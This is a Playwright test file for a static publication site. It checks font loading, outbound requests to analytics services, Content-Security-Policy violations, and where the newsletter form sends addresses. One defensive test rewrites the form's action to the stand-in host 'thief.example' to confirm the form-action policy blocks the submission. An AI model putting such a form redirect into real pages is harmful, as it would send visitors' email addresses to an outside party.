/// <reference lib="dom" />
// Functions passed to a page run in the browser and use its `document`.
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { closePages, sharedBrowser } from "../kit/browser/launch-browser.ts";
import { scratch } from "../kit/disk/scratch.ts";
import { datelineIn } from "../kit/package/installed-publication.ts";
import { ownPaper, SERVICES } from "../kit/package/own-paper.ts";
import { type StaticServer, serveStatic } from "../kit/servers/static-server.ts";

const { folder: paper, remove } = scratch();
let server: StaticServer;
let browser: Browser;

beforeAll(async () => {
  await ownPaper(paper);
  expect(datelineIn(paper, ["build"])).toMatchObject({ status: 0 });
  [server, browser] = await Promise.all([serveStatic(join(paper, "_site")), sharedBrowser()]);
});
afterAll(async () => {
  await closePages(browser);
  await server.close();
  remove();
});

/** Opens a page. Services answer with nothing. Collects what goes wrong, and the requests to services. */
async function open(path: string) {
  const page = await browser.newPage();
  const problems: string[] = [];
  const asked: { method: string; url: URL; body: string | null }[] = [];
  await page.exposeFunction("violated", (text: string) => problems.push(text));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const { violated } = window as unknown as { violated: (text: string) => void };
      violated(`${event.violatedDirective}: ${event.blockedURI}`);
    });
  });
  page.on("console", (message) => {
    if (["error", "warning"].includes(message.type())) problems.push(message.text());
  });
  page.on("pageerror", (error) => problems.push(String(error)));
  const own = new URL(server.url).origin;
  await page.route(
    (url) => url.origin !== own,
    async (route) => {
      const request = route.request();
      asked.push({
        method: request.method(),
        url: new URL(request.url()),
        body: request.postData(),
      });
      await route.fulfill(answerTo(request.resourceType()));
    },
  );
  const response = await page.goto(server.url + path, { waitUntil: "networkidle" });
  expect(response?.status(), path).toBe(200);
  return { page, problems, asked };
}

const PIXEL = Buffer.from("R0lGODlhAQABAAAAACwAAAAAAQABAAA=", "base64");

function answerTo(type: string) {
  if (type === "script") return { contentType: "text/javascript", body: "" };
  if (type === "image") return { contentType: "image/gif", body: PIXEL };
  return { contentType: "text/plain", body: "subscribed" };
}

const loadedFonts = (page: Page) =>
  page.evaluate(() =>
    [...document.fonts]
      .filter(({ status, family }) => status === "loaded" && !family.includes("like"))
      .map(({ family, weight, style }) => `${family.replaceAll('"', "")} ${weight} ${style}`)
      .sort(),
  );

const BOLD = "Newsreader 700 normal";
const ITALIC = "Newsreader 500 italic";

test.each([
  ["front", "", [ITALIC, BOLD]],
  ["article", "2026/03/tide/", [ITALIC, BOLD]],
  ["newsletter's page", "newsletter/", [BOLD]],
  ["privacy page", "privacy/", [BOLD]],
])(
  "the %s loads the fonts, asks only the counters, and violates no policy",
  async (_, path, fonts) => {
    const { page, problems, asked } = await open(path);
    expect(problems).toEqual([]);
    expect(await loadedFonts(page)).toEqual(fonts);
    const requests = asked.map(({ method, url }) => `${method} ${url.origin}`).sort();
    expect(requests).toEqual([`GET ${SERVICES.counter}`, `GET ${SERVICES.pixel}`]);
    await page.close();
  },
);

test("the form sends the address to the newsletter's service alone", async () => {
  const { page, problems, asked } = await open("newsletter/");
  const before = asked.length;
  await page.getByLabel("Email address").fill("reader@example.org");
  await page.locator("form.newsletter-form button").click();
  await page.waitForURL((url) => url.origin === SERVICES.newsletter);
  const sent = asked.slice(before);
  expect(sent.map(({ method, url }) => `${method} ${url.origin}`)).toEqual([
    `POST ${SERVICES.newsletter}`,
  ]);
  expect(sent[0]?.body).toContain("reader%40example.org");
  expect(problems).toEqual([]);
  await page.close();
});

test("a form that something turned to a different host sends nothing", async () => {
  const { page, problems, asked } = await open("newsletter/");
  await page.locator("form.newsletter-form").evaluate((form: HTMLFormElement) => {
    form.action = "https://thief.example/";
    form.noValidate = true;
    form.requestSubmit();
  });
  await expect.poll(() => problems.join("\n")).toContain("form-action");
  expect(asked.map(({ url }) => url.hostname)).not.toContain("thief.example");
  await page.close();
});
